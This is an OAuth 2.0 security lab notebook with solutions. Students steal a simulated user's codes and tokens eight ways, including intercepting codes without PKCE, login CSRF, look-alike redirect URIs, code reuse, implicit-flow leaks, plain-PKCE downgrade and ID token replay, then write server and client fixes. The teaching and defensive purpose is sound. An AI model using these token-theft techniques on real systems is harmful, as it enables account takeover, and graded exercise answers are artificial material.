# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
# ---

# %% [markdown]
# # 04 · OAuth 2.0 — authorization code + PKCE
#
# *Workflow step 1: choose the authentication strategy — here, "log in with another service".*
# Standards: [RFC 6749](https://www.rfc-editor.org/rfc/rfc6749) (OAuth 2.0),
# [RFC 7636](https://www.rfc-editor.org/rfc/rfc7636) (PKCE),
# [RFC 9700](https://www.rfc-editor.org/rfc/rfc9700) (OAuth 2.0 Security Best Current Practice),
# [OpenID Connect Core 1.0](https://openid.net/specs/openid-connect-core-1_0.html), and OWASP
# ASVS 5.0 V10.2 (OAuth client), V10.4 (authorization server), V10.5 (OIDC client).
#
# This lab runs **three** little web servers, each on its own origin: an *authorization server*
# (it knows the users and hands out codes and tokens), a *client web app* (it lets people
# "log in with the server"), and the *attacker's site*. The victim is **alice**: her browser is
# simulated by the lab, she is already signed in at the server, and she clicks the links you
# send her. You are **carol**, with an ordinary account. The pair is riddled with the mistakes
# RFC 9700 was written about. You will steal alice's codes and tokens eight ways, then fix the
# server and the client.

# %%
from urllib.parse import parse_qs, urlsplit

import httpx

import labkit
from labkit.attacks import oauth

lab = labkit.open_lab("04-oauth")
SERVER, CLIENT, ATTACKER = lab.urls["main"], lab.urls["client"], lab.urls["attacker"]
client_id, redirect_uri = lab.facts["client"].split()
evil_id, evil_secret, evil_redirect = lab.facts["evil_client"].split()
print("authorization server", SERVER)
print("client web app      ", CLIENT, f"(client_id {client_id!r})")
print("attacker's site     ", ATTACKER)
lab

# %% [markdown]
# ## Learn
#
# The catalogue's summary of the **authorization code flow**:
#
# 1. The client redirects the browser to the server: `/authorize?response_type=code&client_id=…
#    &redirect_uri=…&scope=openid email&state=…`
# 2. The user authenticates; the server redirects back to the `redirect_uri` with `?code=…`
# 3. The client's back end exchanges the code at `POST /token`
# 4. …and receives an access token and an **ID token** (a signed JWT saying who logged in)
#
# Everything that happens in steps 1 and 2 travels through the browser, in URLs — where other
# apps, logs, history and `Referer` headers can see it. The defences all bind that front
# channel back to the one client session that started it:
#
# | parameter | binds | standard |
# | --- | --- | --- |
# | `redirect_uri`, compared **exactly** | the code to the client's own address | RFC 9700 §2.1, RFC 6749 §4.1.2.1 |
# | `code_challenge` (PKCE, **S256**) | the code to the client instance that asked for it | RFC 7636, RFC 9700 §2.1.1 |
# | `state` | the callback to the browser session that started the login | RFC 6749 §10.12, RFC 9700 §4.7 |
# | `nonce` | the ID token to that session | OIDC Core §3.1.2.1, §3.1.3.7 |
#
# and the code itself must be **single-use, short-lived (≤ 10 minutes), and bound to its client
# and redirect URI** (RFC 6749 §4.1.2, §4.1.3). The implicit grant (token straight in the URL)
# and the password grant (the client sees the password) are out: RFC 9700 §2.1.2 and §2.4.
#
# Here is the legitimate flow, with carol signed in at the server. A "browser" in
# `labkit.attacks.oauth` is an `httpx.Client` that keeps cookies and follows redirects only when
# asked, so every hop can be inspected:

# %%
me = oauth.browser()  # carol's browser
oauth.sign_in(me, SERVER, "carol@example.com", lab.users["carol"].password)
trip = oauth.follow(me, CLIENT + "/login")
for url in trip.urls:
    print(url[:120])
me.get(CLIENT + "/me").json()

# %% [markdown]
# The first URL is the client's `/login`; the second is the **authorization request** (note
# `state`, `code_challenge` and `nonce`); the third is the **callback** carrying the code.

# %% [markdown]
# ## Attack 1 — intercept a code, redeem it without PKCE
#
# RFC 7636 §1 describes the attack PKCE was made for: a malicious app on the victim's device
# registers for the same redirect URI (a custom scheme on mobile, RFC 8252 §8.1) and receives
# the authorization response instead of the real client. `webapp` is a *public* client — it has
# no secret, like every mobile and single-page app — so whoever holds the code can redeem it...
# unless the server insists on the PKCE `code_verifier` that only the real client knows.
#
# `oauth.victim_click(SERVER, url, intercept=prefix)` is alice: she opens `url`, and a redirect
# to a URL starting with `prefix` goes to the malicious app (`result["intercepted"]`) instead
# of her browser. That is the lab playing the victim; the attack is yours.
#
# Write `steal_tokens(server, client)`: make alice log in to the client at `client` (its
# `/login`) while the malicious app claims the client's callback (`client + "/callback"`),
# take the code from the intercepted URL (`urllib.parse`), and redeem it yourself at the
# server's token endpoint — an `httpx.post(server + "/token", data={...})` with the form of
# RFC 6749 §4.1.3 (`grant_type`, `code`, `client_id`, `redirect_uri`) and **no**
# `code_verifier`. Return the token response (its JSON). Success: an `access_token` whose
# `/userinfo` is alice's, and an `id_token`. You will replay it against your fix.


# %% labkit={"answer": "code-interception"}
def steal_tokens(server: str, client: str) -> dict:
    ### BEGIN SOLUTION
    callback = client + "/callback"
    click = oauth.victim_click(server, client + "/login", intercept=callback)
    code = parse_qs(urlsplit(click["intercepted"]).query)["code"][0]
    form = {
        "grant_type": "authorization_code",
        "code": code,
        "client_id": client_id,
        "redirect_uri": callback,
    }
    return httpx.post(server + "/token", data=form).json()
    ### STUB
    return {}  # TODO: intercept alice's code, exchange it at /token with no code_verifier
    ### END SOLUTION


stolen = steal_tokens(SERVER, CLIENT)
print(sorted(stolen))
if "access_token" in stolen:
    bearer = {"Authorization": f"Bearer {stolen['access_token']}"}
    print(httpx.get(SERVER + "/userinfo", headers=bearer).json())

# %% labkit={"check": "code-interception"}
lab.check("code-interception", stolen.get("access_token"))

# %% [markdown]
# ## Attack 2 — login CSRF (no `state` check)
#
# The client sends a `state` but never compares what comes back. So you can start a login *as
# yourself*, stop before your own callback, and make alice's browser finish it: the client logs
# her in to **your** account (RFC 6749 §10.12, RFC 9700 §4.7). Whatever she saves there — a card,
# a document, a search — is now yours.
#
# In carol's browser (`me`) follow `CLIENT + "/login"` with `stop_at=redirect_uri`; the callback
# URL you did not visit is `trip.stopped_at`. Send it to alice with `oauth.victim_click`, look
# at where her click landed (`["final"]`), and keep the URL in `forged`. Success: alice's
# `/me` at the client now answers with carol's account.
#
# One catch, and it is real: if alice's browser has a login of its own in progress — Attack 1
# left one, since the malicious app took its callback — the client sends *her* PKCE verifier
# with *your* code, the server refuses the pair, and her click lands on `PKCE verification
# failed`. That failed callback also ended her pending login: forge a new callback and send
# it again.

# %% labkit={"answer": "login-csrf"}
### BEGIN SOLUTION
for attempt in range(2):
    trip = oauth.follow(me, CLIENT + "/login", stop_at=redirect_uri)
    forged = trip.stopped_at
    landed = oauth.victim_click(SERVER, forged)["final"]
    print(f"attempt {attempt + 1}: alice landed on", landed["status"], landed["body"][:90])
    if landed["status"] == 200:
        break
### STUB
forged = None  # TODO: your own callback URL, delivered to alice
### END SOLUTION

# %%
# who is alice, for the client?
print(oauth.victim_click(SERVER, CLIENT + "/me")["final"]["body"])

# %% labkit={"check": "login-csrf"}
lab.check("login-csrf", forged)

# %% [markdown]
# ## Attack 3 — lax `redirect_uri` matching
#
# The server "helpfully" accepts redirect URIs that merely *resemble* the registered one.
# RFC 9700 §4.1 lists how a look-alike reaches an attacker in the real world: a sub-path an
# attacker can post to (`/callback/attacker`), an open redirect behind `..`, a parameter the
# callback page forwards (`?next=`), user info before the real host (`http://host:port@evil`),
# another service on the same host with another port, another letter case or scheme.
#
# Write `lookalikes(registered, attacker)`: a dict of your variants of `registered`, each
# differing from it in one way (`urllib.parse.urlsplit(...)._replace(netloc=...).geturl()`
# edits one part); make at least one land on `attacker`'s origin (in this lab the attacker's
# site is on the client's host, on another port). The cell then asks the server about each.
# Success: the server redirects with a code to a variant whose `Location` is on `ATTACKER`.
# The check sends alice a link with each of your variants and watches the attacker's site.


# %% labkit={"answer": "redirect-uri"}
def lookalikes(registered: str, attacker: str) -> dict[str, str]:
    ### BEGIN SOLUTION
    reg, evil = urlsplit(registered), urlsplit(attacker)
    return {
        "sub-path": registered + "/attacker",
        "..": registered + "/../attacker",
        "extra query": registered + "?next=" + attacker,
        "userinfo @": reg._replace(netloc=f"{reg.netloc}@{evil.netloc}").geturl(),
        "port": reg._replace(netloc=f"{reg.hostname}:{evil.port}").geturl(),
    }
    ### STUB
    return {}  # TODO: variants of `registered`, one change each; some landing on `attacker`
    ### END SOLUTION


tricks = lookalikes(redirect_uri, ATTACKER)
for name, uri in tricks.items():
    query = {"response_type": "code", "client_id": client_id, "redirect_uri": uri}
    answer = me.get(SERVER + "/authorize", params=query)
    print(f"{name:<12} {answer.status_code}  {answer.headers.get('location', '')[:90]}")

# %% labkit={"check": "redirect-uri"}
lab.check("redirect-uri", tricks)

# %% [markdown]
# What the attacker's site received from alice's clicks:

# %%
print(oauth.captured(ATTACKER)[-2:])

# %% [markdown]
# ## Attack 4 — a used code, used again
#
# A code that went through the browser is in its history, in server logs and maybe in a
# `Referer` header (RFC 9700 §4.2, §4.3). RFC 6749 §4.1.2: the client MUST NOT use a code twice,
# and the server MUST refuse the second attempt — and SHOULD revoke the tokens the first one
# got. Make alice log in normally, find the callback in her browser history
# (`click["history"]`), and redeem that already-used code again. Keep it in `used_code`.

# %% labkit={"answer": "code-reuse"}
### BEGIN SOLUTION
click = oauth.victim_click(SERVER, CLIENT + "/login")
callback = next(h["url"] for h in click["history"] if h["url"].startswith(redirect_uri))
used_code = parse_qs(urlsplit(callback).query)["code"][0]
form = {"grant_type": "authorization_code", "code": used_code, "client_id": client_id}
again = httpx.post(SERVER + "/token", data={**form, "redirect_uri": redirect_uri})
print(again.status_code, sorted(again.json()))
### STUB
used_code = None  # TODO: a code from alice's history, redeemed once more
### END SOLUTION

# %% labkit={"check": "code-reuse"}
lab.check("code-reuse", used_code)

# %% [markdown]
# ## Attack 5 — redeem a code as another client
#
# You registered your own app at this server, `evil-app`, with a real secret. A code issued to
# `webapp` must only ever be redeemed by `webapp` (RFC 6749 §4.1.3: "ensure that the
# authorization code was issued to the authenticated confidential client"). Intercept one of
# alice's codes again and redeem it as `evil-app` with your own credentials. Keep the token
# response in `evil_tokens`.

# %% labkit={"answer": "other-client"}
### BEGIN SOLUTION
click = oauth.victim_click(SERVER, CLIENT + "/login", intercept=redirect_uri)
code = parse_qs(urlsplit(click["intercepted"]).query)["code"][0]
form = {"grant_type": "authorization_code", "code": code, "redirect_uri": redirect_uri}
evil_tokens = httpx.post(
    SERVER + "/token", data={**form, "client_id": evil_id, "client_secret": evil_secret}
).json()
### STUB
evil_tokens = {}  # TODO: alice's code, redeemed by evil-app
### END SOLUTION
print(sorted(evil_tokens))

# %% labkit={"check": "other-client"}
lab.check("other-client", evil_tokens.get("access_token"))

# %% [markdown]
# ## Attack 6 — the implicit flow puts the token in the URL
#
# With `response_type=token` the server skips the code and puts the access token itself in the
# redirect URL's fragment. The seed says it plainly: *NEVER use Implicit Flow (deprecated, tokens
# exposed in URL)*; RFC 9700 §2.1.2 agrees. A fragment never reaches a server, but it reaches
# every script on the landing page — the attacker's page below has one — and the browser
# history. Send alice an implicit-flow link (`SERVER + "/authorize?" + urlencode({...})` with
# `response_type=token` and one of your `tricks` as `redirect_uri`) and take the token from
# the fragment of the `Location` in her history (`click["history"]`). Keep it in
# `leaked_token`.

# %% labkit={"answer": "implicit-leak"}
### BEGIN SOLUTION
query = {"response_type": "token", "client_id": client_id, "redirect_uri": tricks["port"]}
click = oauth.victim_click(SERVER, str(httpx.URL(SERVER + "/authorize", params=query)))
location = click["history"][0]["location"]
print(location[:120])
leaked_token = parse_qs(urlsplit(location).fragment)["access_token"][0]
### STUB
leaked_token = None  # TODO: the access_token from the implicit-flow redirect
### END SOLUTION

# %% labkit={"check": "implicit-leak"}
lab.check("implicit-leak", leaked_token)

# %% [markdown]
# ## Attack 7 — `plain` PKCE gives nothing to someone who saw the request
#
# PKCE has two methods. `S256` sends `BASE64URL(SHA256(verifier))`; `plain` sends the verifier
# itself — and it is the default when a request names no method (RFC 7636 §4.3). The
# authorization request travels through the browser like the response, so an attacker who can
# read it (RFC 9700 §2.1.1, attacker A4; RFC 7636 §7.2) learns a plain verifier for free. Old
# clients and libraries used `plain`; a server that still accepts it lets them.
#
# Play such a client's authorization request for alice (choose any 43+ character challenge,
# `code_challenge_method=plain`), intercept the code as in attack 1, and redeem it with the
# challenge you "saw" as the verifier. Keep the token response in `plain_tokens`.

# %% labkit={"answer": "plain-downgrade"}
### BEGIN SOLUTION
seen = "the-challenge-anyone-could-read-in-the-request-0123"
query = {
    "response_type": "code", "client_id": client_id, "redirect_uri": redirect_uri,
    "scope": "openid email", "code_challenge": seen, "code_challenge_method": "plain",
}  # fmt: skip
link = str(httpx.URL(SERVER + "/authorize", params=query))
click = oauth.victim_click(SERVER, link, intercept=redirect_uri)
code = parse_qs(urlsplit(click["intercepted"]).query)["code"][0]
form = {"grant_type": "authorization_code", "code": code, "client_id": client_id}
plain_tokens = httpx.post(
    SERVER + "/token", data={**form, "redirect_uri": redirect_uri, "code_verifier": seen}
).json()
### STUB
plain_tokens = {}  # TODO: a plain-PKCE code redeemed with the challenge as its verifier
### END SOLUTION
print(sorted(plain_tokens))

# %% labkit={"check": "plain-downgrade"}
lab.check("plain-downgrade", plain_tokens.get("access_token"))

# %% [markdown]
# ## Attack 8 — replay an ID token (no `nonce` check)
#
# The client also accepts an ID token straight in the callback URL (OIDC's implicit and hybrid
# responses) and checks its signature, issuer, audience and expiry — everything but the
# `nonce`. The nonce is what ties an ID token to the login that asked for it (OIDC Core
# §3.1.2.1, §3.1.3.7 step 11); without it, *any* ID token issued to this client is a
# reusable login. Attack 1 gave you one of alice's. Replay it to the client in a fresh
# browser of your own (a new `httpx.Client`: its own cookie jar), and keep it in `replayed`.
# Success: that browser's `/me` at the client is alice. ID tokens here live 5 minutes (their
# `exp`); if Attack 1 was longer ago, `steal_tokens(SERVER, CLIENT)` gets a fresh one.

# %% labkit={"answer": "nonce-replay"}
### BEGIN SOLUTION
replayed = stolen["id_token"]
with httpx.Client(base_url=CLIENT, follow_redirects=True) as attacker:
    attacker.get("/callback", params={"id_token": replayed})
    print(attacker.get("/me").json())
### STUB
replayed = None  # TODO: alice's ID token, replayed to the client
### END SOLUTION

# %% labkit={"check": "nonce-replay"}
lab.check("nonce-replay", replayed)

# %% [markdown]
# ## Fix 1 — PKCE: required, and `S256` only (server)
#
# Write `verify_pkce(verifier, challenge, method) -> bool`; the server calls it at `POST /token`
# with the `code_verifier` of the request and the challenge and method stored with the code
# (each may be `None`). Return `True` only when there is a challenge, the method is `"S256"`,
# the verifier is 43–128 unreserved characters (RFC 7636 §4.1) and
# `BASE64URL(SHA256(verifier))` equals the challenge (RFC 7636 §4.6). Everything else is
# `False` — including a verifier for a code that had no challenge (RFC 9700 §4.8, the PKCE
# downgrade). The check starts with the RFC's own test vector (Appendix B): verifier
# `dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk`, challenge
# `E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM`. A `verify_pkce` that raises (on a `None`, say)
# is not a refusal: the server answers 500 and the check fails.
#
# <!-- labkit:rules pkce -->

# %% labkit={"answer": "pkce"}
import hmac
import re
import time

from authlib.oauth2.rfc7636 import create_s256_code_challenge

UNRESERVED = re.compile(r"[A-Za-z0-9\-._~]{43,128}")  # RFC 7636 §4.1


def verify_pkce(verifier, challenge, method) -> bool:
    ### BEGIN SOLUTION
    if not (isinstance(verifier, str) and isinstance(challenge, str)) or method != "S256":
        return False
    if UNRESERVED.fullmatch(verifier) is None:
        return False
    return hmac.compare_digest(create_s256_code_challenge(verifier), challenge)
    ### END SOLUTION


# %% labkit={"check": "pkce"}
lab.check("pkce", verify_pkce=verify_pkce)

# %% [markdown]
# Your `steal_tokens` from Attack 1, replayed against a server running your `verify_pkce`
# (with its own client web app and its own alice):

# %%
fixed = lab.patched(verify_pkce=verify_pkce)
fixed_callback = httpx.get(fixed.url + "/api/_lab/clients").json()[client_id]["redirect_uris"][0]
print("your Attack 1 now gets:", steal_tokens(fixed.url, fixed_callback.removesuffix("/callback")))

# %% [markdown]
# ## Fix 2 — exact redirect URIs (server)
#
# Write `validate_redirect_uri(registered, requested) -> bool`. RFC 9700 §2.1: "exact string
# matching". The server already answers a refused URI with a 400 page and never redirects to it
# (RFC 6749 §4.1.2.1) — your function decides which URIs are refused. The check generates
# look-alikes of the registered URI on every run: sub-paths, `..`, extra queries, fragments,
# userinfo, other ports, schemes and letter cases.
#
# <!-- labkit:rules redirect-uri-exact -->

# %% labkit={"answer": "redirect-uri-exact"}
def validate_redirect_uri(registered: str, requested: str) -> bool:
    ### BEGIN SOLUTION
    return requested == registered
    ### END SOLUTION


# %% labkit={"check": "redirect-uri-exact"}
lab.check("redirect-uri-exact", validate_redirect_uri=validate_redirect_uri)

# %% [markdown]
# Your `lookalikes` from Attack 3, replayed against a server running your function:

# %%
fixed = lab.patched(validate_redirect_uri=validate_redirect_uri)
fixed_callback = httpx.get(fixed.url + "/api/_lab/clients").json()[client_id]["redirect_uris"][0]
for name, uri in lookalikes(fixed_callback, ATTACKER).items():
    query = {"response_type": "code", "client_id": client_id, "redirect_uri": uri}
    answer = httpx.get(fixed.url + "/authorize", params=query)
    print(f"{name:<12} {answer.status_code}  {answer.headers.get('location', '')[:60]}")

# %% [markdown]
# ## Fix 3 — codes: once, briefly, for one client (server)
#
# Write `redeem_code(codes, code, client_id, redirect_uri) -> dict | None`. `codes` is the
# server's code store: `codes.pop(code)` takes a code's record out **atomically** (a second
# `pop` of the same code returns `None`, and the store then revokes the tokens of the first
# redemption); `codes.get(code)` only reads. A record has `client_id`, `redirect_uri` (as sent
# in the authorization request), `user`, `issued_at` (`time.time()` when issued), and the PKCE
# fields. Return the record only if the code was issued to this `client_id`, the token request
# repeats the same `redirect_uri` (RFC 6749 §4.1.3), and it is at most 600 seconds old
# (RFC 6749 §4.1.2); otherwise `None`. (A shorter lifetime is fine: 10 minutes is the
# maximum.)
#
# <!-- labkit:rules codes -->

# %% labkit={"answer": "codes"}
CODE_TTL_S = 600


def redeem_code(codes, code: str, client_id: str, redirect_uri):
    ### BEGIN SOLUTION
    record = codes.pop(code)  # single use: taken out, whatever happens next
    if record is None:
        return None
    if record["client_id"] != client_id or record["redirect_uri"] != redirect_uri:
        return None
    if time.time() - record["issued_at"] > CODE_TTL_S:
        return None
    return record
    ### END SOLUTION


# %% labkit={"check": "codes"}
lab.check("codes", redeem_code=redeem_code)

# %% [markdown]
# ## Fix 4 — one flow (server)
#
# Write `flow_allowed(flow) -> bool`; `flow` is `"authorization_code"`, `"implicit"` (a
# `response_type=token` request) or `"password"` (a `grant_type=password` token request).
#
# <!-- labkit:rules flows -->

# %% labkit={"answer": "flows"}
def flow_allowed(flow: str) -> bool:
    ### BEGIN SOLUTION
    return flow == "authorization_code"
    ### END SOLUTION


# %% labkit={"check": "flows"}
lab.check("flows", flow_allowed=flow_allowed)

# %% [markdown]
# ## Fix 5 — `state` (client)
#
# Write `check_state(expected, returned) -> bool`. The client has already taken `expected` out
# of the session (so each value works once); it is `None` when this browser has no login in
# progress — a callback nobody asked for. `returned` is the callback's `state`, or `None`.
# (Authlib's `parse_authorization_code_response(uri, state)` skips the comparison when `state`
# is empty — exactly the bug to avoid.)
#
# <!-- labkit:rules state -->

# %% labkit={"answer": "state"}
def check_state(expected, returned) -> bool:
    ### BEGIN SOLUTION
    if not expected or not isinstance(returned, str):
        return False
    return hmac.compare_digest(expected.encode(), returned.encode())
    ### END SOLUTION


# %% labkit={"check": "state"}
lab.check("state", check_state=check_state)

# %% [markdown]
# ## Fix 6 — `nonce` (client)
#
# Write `check_nonce(expected, claims) -> bool`: `expected` is the nonce this session sent (or
# `None`), `claims` the ID token's verified claims. The token's `nonce` must be there and equal.
#
# <!-- labkit:rules nonce -->

# %% labkit={"answer": "nonce"}
def check_nonce(expected, claims: dict) -> bool:
    ### BEGIN SOLUTION
    nonce = claims.get("nonce")
    if not expected or not isinstance(nonce, str):
        return False
    return hmac.compare_digest(expected.encode(), nonce.encode())
    ### END SOLUTION


# %% labkit={"check": "nonce"}
lab.check("nonce", check_nonce=check_nonce)

# %% [markdown]
# ## Verify — replay every attack
#
# Your six functions together are the fixed server and client. The check replays the whole
# battery against them — interception without a verifier, wrong and near-miss verifiers,
# `plain`, a missing method, no PKCE, the RFC 9700 §4.8 downgrade, malformed verifiers, fifteen
# generated look-alikes of the redirect URI, reused, foreign, mis-addressed and expired codes,
# the implicit and password grants, seven login CSRF variants and five ID token replays — while
# a real user logs in to the client and a correct token request still gets its tokens. Every rule of the six fixes applies:
#
# <!-- labkit:rules verify -->

# %% labkit={"check": "verify"}
lab.check(
    "verify",
    verify_pkce=verify_pkce,
    validate_redirect_uri=validate_redirect_uri,
    redeem_code=redeem_code,
    flow_allowed=flow_allowed,
    check_state=check_state,
    check_nonce=check_nonce,
)

# %% [markdown]
# ## Recap
#
# | avoid | do instead |
# | --- | --- |
# | Implicit Flow (tokens exposed in URL) | authorization code flow + PKCE |
# | "starts with" / normalised redirect URI checks | exact string match, 400 page on mismatch |
# | PKCE optional, or `plain` | PKCE required for every code, `S256` only |
# | codes that live long or work twice | single-use, ≤ 10 min, bound to client + redirect URI + challenge |
# | `state` / `nonce` sent but not compared | compared with the session's value, used once |
# | password grant | the user types the password at the server only |
#
# What a reviewer looks for in real code:
#
# - a well-kept library doing the protocol (Authlib, oauthlib, or the provider's SDK), with
#   PKCE `S256`, `state` and `nonce` switched on — and no hand-written callback that skips them;
# - on the server, redirect URIs compared as whole strings against the registration, and an
#   error page (not a redirect) when they differ;
# - the code's record deleted (or marked) atomically at redemption, with the client, redirect
#   URI and PKCE challenge checked against it, and a short expiry;
# - `response_type=token` and `grant_type=password` absent from the server's metadata
#   (`/.well-known/openid-configuration`);
# - the ID token verified with the server's JWKS, a fixed algorithm list, `iss`, `aud`, `exp`,
#   and the session's `nonce`;
# - in this lab's secure reference, `labkit.patterns.oauth` — Authlib's
#   `create_s256_code_challenge`, `prepare_grant_uri`, `prepare_token_request`, and PyJWT with
#   an ES256 key published as a JWKS.

# %%
labkit.progress()

# %%
me.close()
lab.close()
